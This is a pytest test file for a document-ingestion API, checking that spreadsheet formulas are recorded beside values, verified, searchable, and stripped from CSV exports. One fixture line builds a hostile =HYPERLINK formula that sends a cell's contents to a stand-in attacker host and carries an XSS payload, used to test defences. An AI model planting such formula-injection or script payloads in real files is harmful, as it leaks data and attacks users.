"""Formulas beside values, from the file to the API: pages, passages, tables, the agent's tools, a second run."""

import json
from typing import Any

import pytest

from shared.domain.ids import new_id
from shared.domain.scope import Identity
from shared.ingestion.event import Event
from shared.runtime import Runtime
from tests.api.conftest import Client
from tests.pipeline import make_knowledge_base, run_all, upload
from tests.readers.test_formulas import ORDER, cell
from tests.readers.workbooks import Made, workbook

HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"<img src=x onerror=alert(1)>")'


def order(total: str) -> bytes:
    cells = dict(ORDER.cells) | {
        "A5": "Total", "D5": cell(f"<f>{total}</f>", "16"),
        "A6": "Link", "D6": cell(f'<f>{HOSTILE[1:].replace("&", "&amp;").replace("<", "&lt;")}</f>', "go", kind="str"),
        "A7": "Later", "B7": 1, "D7": cell("<f>D5*2</f>"),
    }  # fmt: skip
    return workbook({"Order": Made(cells)})


class Stored:
    def __init__(self, runtime: Runtime, identity: Identity, client: Client) -> None:
        self.runtime, self.identity, self.client = runtime, identity, client
        self.base = make_knowledge_base(runtime, identity, f"formulas {new_id().hex}")
        self.id = self.run(order("SUM(D2:D4)"))

    def run(self, data: bytes) -> str:
        answer = run_all(self.runtime, upload(self.runtime, self.identity, self.base, data, "order.xlsx"))
        self.event = Event.model_validate(answer)
        return str(answer["document_id"])

    def ask(self, method: str, path: str, status: int = 200, **options: Any) -> Any:
        answer = self.client(method, f"/v1{path}", **options)
        assert answer.status_code == status, answer.text
        return answer.json()

    def rows(self) -> dict[str, Any]:
        items = self.ask("GET", f"/documents/{self.id}/chunks?limit=100")["items"]
        return {one["content"].split(" ")[0]: one for one in items if one["chunk_type"] == "table_row"}


@pytest.fixture(scope="module")
def stored(runtime: Runtime, identity: Identity, client: Client) -> Stored:
    return Stored(runtime, identity, client)


def test_a_page_a_passage_and_a_cell_say_their_formulas(stored: Stored) -> None:
    page = stored.ask("GET", f"/documents/{stored.id}/pages/1?include=fragments,operations")
    assert {one["range"]: one["formula"] for one in page["formulas"]}["D3"] == "=B3*$C3"
    assert page["uncalculated"] == 1
    assert page["flags"] == ["uncalculated_formulas"]
    assert stored.rows()["Total"]["formulas"] == [{"range": "D5", "formula": "=SUM(D2:D4)"}]
    assert stored.rows()["Later"]["formulas"] == [{"range": "D7", "formula": "=D5*2", "calculated": False}]
    (table,) = [one["table"] for one in page["items"] if one["chunk_type"] == "table"]
    assert [row[-1].get("formula") for row in table["rows"]][:3] == [None, "=B2*$C2", "=B3*$C3"]
    assert table["rows"][-1][-1]["text"] == ""
    assert table["rows"][-1][-1]["calculated"] is False


def test_a_hit_says_how_it_was_computed_and_no_text_has_a_formula(stored: Stored) -> None:
    body = {"query": "Total", "knowledge_base_ids": [str(stored.base)]}
    hits = stored.ask("POST", "/search", json=body)["hits"]
    (total,) = [one["chunk"] for one in hits if one["chunk"]["content"].startswith("Total")]
    assert total["formulas"] == [{"range": "D5", "formula": "=SUM(D2:D4)"}]
    assert not any("SUM" in one["content"] for one in stored.rows().values())


def test_the_formulas_are_proved(stored: Stored) -> None:
    report = stored.ask("GET", f"/documents/{stored.id}/verify?refresh=true")
    assert (report["ok"], report["failures"]) == (True, [])


@pytest.mark.parametrize("forged", [{"formula": "=B4*$C3"}, None])
def test_another_formula_and_one_that_is_missing_fail_the_proof(stored: Stored, forged: dict[str, str] | None) -> None:
    key = f"{stored.event.work}pages/1.json"
    kept = stored.runtime.blobs.get(key)
    page = json.loads(kept)
    at = next(at for at, one in enumerate(page["formulas"]) if one["range"] == "D3")
    page["formulas"][at : at + 1] = [page["formulas"][at] | forged] if forged else []
    stored.runtime.blobs.put(key, json.dumps(page).encode(), "application/json")
    try:
        report = stored.ask("GET", f"/documents/{stored.id}/verify?refresh=true")
    finally:
        stored.runtime.blobs.put(key, kept, "application/json")
    assert not report["ok"]
    assert "formula" in {one["check"] for one in report["failures"]}


def test_what_is_written_to_a_file_has_values_and_no_formula(stored: Stored) -> None:
    (table,) = stored.ask("GET", f"/knowledge-bases/{stored.base}/tables")["items"]
    wanted = {"knowledge_base_id": str(stored.base), "table_ids": [table["table_id"]]}
    made = stored.ask("POST", "/datasets", 201, json=wanted)
    answer = stored.client("GET", f"/v1/datasets/{made['id']}/export?format=csv")
    assert answer.status_code == 200
    assert "16" in answer.text
    assert "=" not in answer.text


def test_another_formula_of_the_same_value_is_another_formula_and_nothing_is_embedded(stored: Stored) -> None:
    before = stored.rows()
    stored.id = stored.run(order("SUM(D2:D3)+D4"))
    after = stored.rows()
    assert after["Total"]["formulas"] == [{"range": "D5", "formula": "=SUM(D2:D3)+D4"}]
    assert after["Total"]["content"] == before["Total"]["content"]
